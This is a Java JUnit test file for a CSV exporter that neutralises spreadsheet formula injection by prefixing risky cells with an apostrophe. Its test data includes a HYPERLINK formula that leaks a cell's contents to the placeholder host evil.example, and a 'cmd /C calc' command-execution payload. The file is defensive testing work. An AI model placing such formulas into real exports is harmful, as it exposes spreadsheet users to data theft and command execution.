package fr.passerelle.publish.portal;

import static org.junit.jupiter.api.Assertions.assertEquals;

import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.InputStream;
import java.io.OutputStream;
import java.nio.charset.StandardCharsets;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

class SpreadsheetSafeCsvTest {

    @ParameterizedTest(name = "{0} → {1}")
    @CsvSource(delimiter = '|', quoteCharacter = '`', value = {
            "=1+1|'=1+1",
            "=HYPERLINK(\"http://evil.example/?\"&A1;\"Cliquez\")|'=HYPERLINK(\"http://evil.example/?\"&A1;\"Cliquez\")",
            "+1+cmd /C calc!A0|'+1+cmd /C calc!A0",
            "-2+3|'-2+3",
            "@SUM(A1:A9)|'@SUM(A1:A9)",
            "+33 6 12 34 56 78|'+33 6 12 34 56 78",
            "＝1+1|'＝1+1",
            "-|'-",
            "-12.5|-12.5",
            "-12,5|-12,5",
            "+33|+33",
            "-1e5|-1e5",
            "-.5|-.5",
            "12|12",
            "Piscine municipale|Piscine municipale",
            "a=b|a=b",
            "`'`|`'`"})
    void neutralisesFormulasButNotNumbers(String stored, String served) {
        assertEquals(served, SpreadsheetSafeCsv.cell(stored));
    }

    @Test
    void tabAndCarriageReturnFirstAreNeutralised() {
        assertEquals("'\t=1", SpreadsheetSafeCsv.cell("\t=1"));
        assertEquals("'\r=1", SpreadsheetSafeCsv.cell("\r=1"));
        assertEquals("", SpreadsheetSafeCsv.cell(""));
    }

    @Test
    void rewritesAWholeFileKeepingQuotingAndEmptyCells() throws IOException {
        String stored = "id,nom,montant,commentaire\n"
                + "A1,\"=HYPERLINK(\"\"http://x\"\",\"\"y\"\")\",-12.5,\n"
                + "A2,\"Hôtel de Ville, parvis\",+3,@risque\n"
                + "A3,\"ligne 1\nligne 2\",,\"-\"\"x\"\"\"\n";
        ByteArrayOutputStream out = new ByteArrayOutputStream();

        SpreadsheetSafeCsv.write(new ByteArrayInputStream(stored.getBytes(StandardCharsets.UTF_8)), out);

        assertEquals("id,nom,montant,commentaire\n"
                + "A1,\"'=HYPERLINK(\"\"http://x\"\",\"\"y\"\")\",-12.5,\n"
                + "A2,\"Hôtel de Ville, parvis\",+3,'@risque\n"
                + "A3,\"ligne 1\nligne 2\",,\"'-\"\"x\"\"\"\n", out.toString(StandardCharsets.UTF_8));
    }

    @Test
    void streamsALargeFileWithoutHoldingIt() throws IOException {
        long rows = 200_000;
        InputStream generated = new InputStream() {
            private final byte[] row = "A1,=1+1,-12.5,texte un peu long pour remplir\n".getBytes(StandardCharsets.UTF_8);
            private long emitted = -1;
            private int position;
            private final byte[] header = "id,formule,montant,commentaire\n".getBytes(StandardCharsets.UTF_8);

            @Override
            public int read() {
                byte[] current = emitted < 0 ? header : row;
                if (emitted >= rows) {
                    return -1;
                }
                int b = current[position++];
                if (position == current.length) {
                    position = 0;
                    emitted++;
                }
                return b;
            }
        };
        long[] lines = {0};
        long[] neutralised = {0};
        OutputStream counting = new OutputStream() {
            private int comma;

            @Override
            public void write(int b) {
                if (b == '\n') {
                    lines[0]++;
                    comma = 0;
                } else if (b == ',') {
                    comma++;
                } else if (b == '\'' && comma == 1) {
                    neutralised[0]++;
                }
            }
        };

        SpreadsheetSafeCsv.write(generated, counting);

        assertEquals(rows + 1, lines[0]);
        assertEquals(rows, neutralised[0]);
    }
}
